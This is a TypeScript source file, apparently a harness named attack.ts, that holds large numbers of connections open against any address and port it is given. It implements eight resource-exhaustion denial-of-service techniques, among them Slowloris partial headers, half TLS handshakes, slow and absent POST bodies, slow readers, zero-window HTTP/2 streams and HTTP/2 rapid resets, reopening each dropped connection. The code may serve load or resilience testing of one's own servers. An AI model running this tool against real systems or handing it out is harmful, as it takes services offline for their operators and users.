// Holds connections: `node attack.ts KIND COUNT ADDRESS PORT`. Prints a line when it has had so many, and one when it
// has lost one, opens each again, and ends with its input; then it prints how many it has held at once.
import { connect, type Socket } from "node:net";
import { setTimeout as sleep } from "node:timers/promises";

const [kind = "", count, host, port] = process.argv.slice(2);
const head = (line: string, ...more: string[]) => [line, "Host: shop.example", ...more, ""].join("\r\n");
/** RFC 9113 §4.1. */
const frame = (type: number, flags: number, stream: number, payload: readonly number[]) => {
  const header = Buffer.alloc(9);
  header.writeUIntBE(payload.length, 0, 3);
  header.writeUInt8(type, 3);
  header.writeUInt8(flags, 4);
  header.writeUInt32BE(stream, 5);
  return Buffer.concat([header, Buffer.from(payload)]);
};
/** The preface of HTTP/2, and settings that allow no byte of a body (SETTINGS_INITIAL_WINDOW_SIZE). */
const PREFACE = Buffer.concat([Buffer.from("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), frame(4, 0, 0, [0, 4, 0, 0, 0, 0])]);
/** GET http://a/large.txt (RFC 7541: three names of the static table, and two values). */
const GET = [0x82, 0x86, 0x41, 1, 0x61, 0x44, 10, ...Buffer.from("/large.txt")];
const STREAMS = Array.from({ length: 20 }, (_, index) => 2 * index + 1);
const opened = STREAMS.map((stream) => frame(1, 5, stream, GET));
const reset = STREAMS.map((stream) => Buffer.concat([frame(1, 5, stream, GET), frame(3, 0, stream, [0, 0, 0, 8])]));

/** What is done on a new connection. */
const KINDS: Record<string, (socket: Socket) => void> = {
  "half headers": (socket) => socket.write(head("GET / HTTP/1.1", "X-Half: ").trimEnd()),
  // A record of 512 bytes is announced (RFC 8446 §5.1), and one is sent.
  "half TLS handshakes": (socket) => socket.write(Buffer.from([22, 3, 1, 2, 0, 1])),
  "slow bodies": (socket) => {
    socket.write(`${head("POST /cart/lines HTTP/1.1", "Content-Length: 60000")}\r\n`);
    const timer = setInterval(() => socket.write("x"), 4_000);
    socket.once("close", () => clearInterval(timer));
  },
  "no bodies": (socket) => socket.write(`${head("POST /cart/lines HTTP/1.1", "Content-Length: 60000")}\r\n`),
  "slow readers": (socket) => {
    socket.pause();
    socket.write(`${head("GET /large.txt HTTP/1.1")}\r\n`);
  },
  "idle connections": (socket) => socket.write(`${head("GET /llms.txt HTTP/1.1")}\r\n`),
  "HTTP/2 streams": (socket) => socket.write(Buffer.concat([PREFACE, ...opened])),
  "HTTP/2 resets": (socket) => socket.write(Buffer.concat([PREFACE, ...reset])),
};

const start = KINDS[kind];
if (!start) throw new Error(`There is no kind "${kind}".`);
let [had, held, most, hasLost] = [0, 0, 0, false];
function hold(): void {
  const socket = connect({ host: host ?? "", port: Number(port) });
  socket.once("connect", () => {
    [had, held] = [had + 1, held + 1];
    most = Math.max(most, held);
    if (had === Number(count)) console.log("had");
    start?.(socket);
    socket.once("close", () => {
      if (!hasLost) console.log("lost");
      hasLost = true;
      held -= 1;
    });
  });
  socket.on("error", () => {});
  socket.on("data", () => {});
  socket.once("close", () => setTimeout(hold, 2_000));
}
process.stdin.resume().once("end", () => {
  console.log(most);
  process.exit();
});
for (let index = 0; index < Number(count); index += 1) {
  hold();
  if (index % 250 === 0) await sleep(10);
}
